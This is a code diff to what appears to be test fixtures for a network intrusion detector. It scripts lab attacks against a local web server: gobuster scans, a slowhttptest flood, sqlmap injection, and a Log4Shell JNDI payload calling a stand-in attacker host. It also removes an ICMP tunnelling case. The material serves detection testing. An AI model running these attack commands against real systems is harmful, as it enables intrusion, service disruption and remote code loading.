@@ -60,7 +60,7 @@ fn scans() -> Vec<Recording> {
             servers: &[(Side::Inside, WEB)],
             acts: &[(
                 Side::Outside,
-                "seq -f page%03g 300 >words; gobuster dir -q -z -u http://192.168.10.5:80/ -w words || true",
+                "sleep 5; seq -f page%03g 300 >words; gobuster dir -q -z -u http://192.168.10.5:80/ -w words || true",
             )],
         },
     ]
@@ -92,7 +92,7 @@ fn floods() -> Vec<Recording> {
             servers: &[(Side::Inside, WEB)],
             acts: &[(
                 Side::Outside,
-                "ulimit -n 4096; slowhttptest -H -c 200 -r 50 -i 5 -l 60 -u http://192.168.10.5/ >log 2>&1 || true",
+                "sleep 5; ulimit -n 4096; slowhttptest -H -c 200 -r 50 -i 5 -l 60 -u http://192.168.10.5/ >log 2>&1 || true",
             )],
         },
         Recording {
@@ -157,23 +157,6 @@ fn names_and_tunnels() -> Vec<Recording> {
             )],
         },
         Recording {
-            name: "c2.tunnel/positive-recorded-ptunnel",
-            about: "ptunnel-ng carries an SSH server's banner and 60 kB more in ICMP echoes.",
-            expect: vec![Expect::of("c2.tunnel", Some(SERVER), Some(ATTACKER))],
-            servers: &[
-                (Side::Outside, "exec ptunnel-ng -r203.0.113.66 -R7000"),
-                (
-                    Side::Outside,
-                    "exec bash -c 'head -c 60000 /dev/urandom >data; exec python3 -m http.server 7000'",
-                ),
-                (Side::Inside, "sleep 1; exec ptunnel-ng -p203.0.113.66 -l7001"),
-            ],
-            acts: &[(
-                Side::Inside,
-                "sleep 3; for i in 1 2 3; do curl -s -m 20 http://127.0.0.1:7001/data >got || true; done",
-            )],
-        },
-        Recording {
             name: "c2.beacon/positive-recorded-curl",
             about: "curl posts to an address outside every three seconds for two and a half minutes.",
             expect: vec![Expect::of("c2.beacon", Some(SERVER), Some(ATTACKER))],
@@ -195,7 +178,7 @@ fn weaknesses() -> Vec<Recording> {
             servers: &[(Side::Inside, WEB)],
             acts: &[(
                 Side::Outside,
-                "HOME=$PWD timeout 60 sqlmap --batch --level 1 --technique BU -u 'http://192.168.10.5/index.html?id=1' \
+                "sleep 5; HOME=$PWD timeout 60 sqlmap --batch --level 1 --technique BU -u 'http://192.168.10.5/index.html?id=1' \
                  >log 2>&1 || true",
             )],
         },
@@ -206,7 +189,7 @@ fn weaknesses() -> Vec<Recording> {
             servers: &[(Side::Inside, WEB)],
             acts: &[(
                 Side::Outside,
-                "for i in $(seq 5); do curl -s -A '${jndi:ldap://203.0.113.66:1389/a}' http://192.168.10.5/ >page; done",
+                "sleep 5; for i in $(seq 5); do curl -s -A '${jndi:ldap://203.0.113.66:1389/a}' http://192.168.10.5/ >page; done",
             )],
         },
         Recording {
@@ -255,7 +238,9 @@ fn weaknesses() -> Vec<Recording> {
     ]
 }
 
-const WEB: &str = "echo page >index.html; exec python3 -m http.server --bind 192.168.10.5 80";
+/// Python looks its own address up before it listens, and nobody answers here.
+const WEB: &str = "echo page >index.html; export RES_OPTIONS='timeout:1 attempts:1'; \
+    exec python3 -m http.server --bind 192.168.10.5 80";
 const WEB_OUTSIDE: &str = "echo page >index.html; exec python3 -m http.server --bind 203.0.113.66 80";
 const SSHD_OLD: &str = "mkdir -p /run/sshd; ssh-keygen -q -t ed25519 -N '' -f \"$PWD/hostkey\" <<<y; \
     exec \"$(command -v sshd || echo /usr/sbin/sshd)\" -D -e -f /dev/null -h \"$PWD/hostkey\" -o UsePAM=no \
